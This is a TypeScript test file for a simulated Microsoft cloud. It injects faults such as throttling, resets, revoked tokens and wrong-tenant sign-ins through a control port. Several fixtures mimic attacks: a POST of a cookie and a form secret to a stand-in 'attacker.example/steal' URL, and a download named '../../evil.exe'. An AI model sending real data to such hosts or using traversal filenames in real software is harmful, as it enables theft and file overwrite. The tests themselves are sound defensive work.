import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { connectControl } from '../../cloud/control/control-client.ts';
import type { ControlClient } from '../../cloud/control/control-client.ts';
import { createNativeClient } from './native-client.ts';
import { runDemoCloud } from './running-cloud.ts';
import type { RunningCloud } from './running-cloud.ts';
import { createTestBrowser } from './test-browser.ts';
import type { TestBrowser } from './test-browser.ts';

const OPERATOR = 'dana.okafor@contoso.com';
const GRAPH = 'https://graph.microsoft.com';

describe('faults and the control port', () => {
  let run: RunningCloud;
  let control: ControlClient;
  let contoso: string;
  let fabrikam: string;

  beforeAll(async () => {
    run = await runDemoCloud();
    control = connectControl(run.cloud.controlPort);
    contoso = run.tenant('contoso.com').id;
    fabrikam = run.tenant('fabrikam.com').id;
  });
  afterAll(() => run.stop());
  afterEach(() => control.reset());

  async function signedIn(url: string): Promise<TestBrowser> {
    const browser = createTestBrowser(run.cloud);
    await browser.signIn(await browser.open(url), OPERATOR, run.account(OPERATOR).password);
    return browser;
  }
  const defender = (tenantId: string): string => `https://security.microsoft.com/?tid=${tenantId}`;

  it('throttles one tenant on one host, as often as it was told', async () => {
    const browser = createTestBrowser(run.cloud);
    await control.addFault({
      effect: { kind: 'status', status: 429, retryAfterSeconds: 7 },
      host: 'security.microsoft.com',
      tenantId: contoso,
      times: 1,
    });

    const other = await browser.send(defender(fabrikam));
    const throttled = await browser.send(defender(contoso));
    const after = await browser.send(defender(contoso));

    expect(other.status).toBe(302);
    expect([throttled.status, throttled.headers['retry-after']]).toEqual([429, '7']);
    expect(after.status).toBe(302);
  });

  it('fails, delays, cuts off, resets and stays silent', async () => {
    const browser = createTestBrowser(run.cloud);
    const url = `${GRAPH}/v1.0/me`;

    await control.addFault({ effect: { kind: 'status', status: 503 }, times: 1 });
    const failed = await browser.send(url);
    await control.addFault({ effect: { kind: 'latency', ms: 80 }, times: 1 });
    const startedAt = performance.now();
    await browser.send(url);
    const waited = performance.now() - startedAt;
    await control.addFault({ effect: { kind: 'truncated' }, times: 1 });
    const truncated = browser.send(url);
    await expect(truncated).rejects.toThrow(/aborted|hang up/);
    await control.addFault({ effect: { kind: 'reset' }, times: 1 });
    await expect(browser.send(url)).rejects.toThrow(/ECONNRESET|hang up/);
    await control.addFault({ effect: { kind: 'hang' }, times: 1 });
    const silent = await Promise.race([
      browser.send(url).catch(() => 'closed'),
      new Promise((resolve) => setTimeout(resolve, 150, 'nothing')),
    ]);

    expect(failed.status).toBe(503);
    expect(waited).toBeGreaterThanOrEqual(79);
    expect(silent).toBe('nothing');
    expect((await browser.send(url)).status).toBe(401);
  });

  it('ends portal and sign-in sessions', async () => {
    const browser = await signedIn(defender(contoso));

    await control.addFault({ effect: { kind: 'session-expired' }, tenantId: contoso });
    const portal = await browser.open(defender(contoso));
    await control.clearFaults();
    const after = await browser.open(defender(contoso));

    expect(portal.body).toContain('name="loginfmt"');
    expect(after.text('account-name')).toBe(OPERATOR);
  });

  it('revokes refresh and access tokens, with a claims challenge', async () => {
    const browser = createTestBrowser(run.cloud);
    const scope = `openid ${GRAPH}/User.Read`;
    const client = createNativeClient(
      browser,
      `https://login.microsoftonline.com/${contoso}`,
      scope,
    );
    const page = await browser.signIn(
      await browser.open(client.authorizeUrl()),
      OPERATOR,
      run.account(OPERATOR).password,
    );
    const tokens = JSON.parse((await client.redeem(page)).body) as Record<string, string>;

    await control.addFault({ effect: { kind: 'revoked' }, tenantId: contoso });
    const refresh = await client.refresh(String(tokens.refresh_token), { scope });
    const me = await browser.send(`${GRAPH}/v1.0/me`, {
      headers: { authorization: `Bearer ${tokens.access_token}` },
    });

    expect(JSON.parse(refresh.body)).toMatchObject({ error_codes: [50173], suberror: 'bad_token' });
    expect(me.status).toBe(401);
    expect(me.headers['www-authenticate']).toMatch(
      /error="insufficient_claims", claims="[\w+/=]+"/,
    );
  });

  it('answers a sign-in with the token of another tenant', async () => {
    await control.addFault({
      effect: { kind: 'wrong-tenant', tenantId: fabrikam },
      host: 'login.microsoftonline.com',
      tenantId: contoso,
    });

    const browser = createTestBrowser(run.cloud);
    const portal = await browser.signIn(
      await browser.open(defender(contoso)),
      OPERATOR,
      run.account(OPERATOR).password,
    );

    expect(portal.url.searchParams.get('tid')).toBe(contoso);
    expect(portal.text('tenant-id')).toBe(fabrikam);
  });

  it('serves registered content before anything else, at any host', async () => {
    const browser = createTestBrowser(run.cloud);
    await control.putContent({
      host: 'attacker.example',
      path: '/page',
      status: 302,
      headers: { location: 'https://attacker.example/next', 'set-cookie': ['a=1', 'b=2'] },
    });
    await control.putContent({
      host: 'security.microsoft.com',
      path: '/big.bin',
      body: Buffer.from([0, 255]).toString('base64'),
      encoding: 'base64',
      headers: { 'content-disposition': 'attachment; filename="../../evil.exe"' },
      paddingBytes: 200_000,
    });

    const page = await browser.send('https://attacker.example/page?x=1');
    const big = await browser.send('https://security.microsoft.com/big.bin');
    await control.clearContent();
    const gone = await browser.send('https://attacker.example/page');

    expect([page.status, page.headers.location]).toEqual([302, 'https://attacker.example/next']);
    expect(page.headers['set-cookie']).toEqual(['a=1', 'b=2']);
    expect(big.headers['content-length']).toBe('200002');
    expect(big.headers['content-disposition']).toContain('evil.exe');
    expect(gone.status).toBe(421);
  });

  it('remembers every request and connection, of unknown hosts as well', async () => {
    const browser = createTestBrowser(run.cloud);
    await browser.send('https://sub.attacker.example/steal?x=1', {
      headers: { cookie: 'k=v', 'x-seen': 'yes' },
      form: { secret: 'value' },
    });

    const all = await control.requests();
    const [seen] = await control.requests({ host: 'sub.attacker.example' });
    const later = await control.requests({ afterId: all.at(-1)?.id ?? 0 });
    const connections = await control.connections('sub.attacker.example');

    expect(seen).toMatchObject({
      method: 'POST',
      path: '/steal?x=1',
      cookies: { k: 'v' },
      body: 'secret=value',
    });
    expect(seen?.headers['x-seen']).toBe('yes');
    expect(later).toEqual([]);
    expect(connections).toHaveLength(1);
  });

  it('answers no control call that lacks the header', async () => {
    const response = await fetch(`http://127.0.0.1:${run.cloud.controlPort}/reset`, {
      method: 'POST',
    });

    expect(response.status).toBe(403);
    expect((await control.estate()).tenants).toHaveLength(8);
  });
});
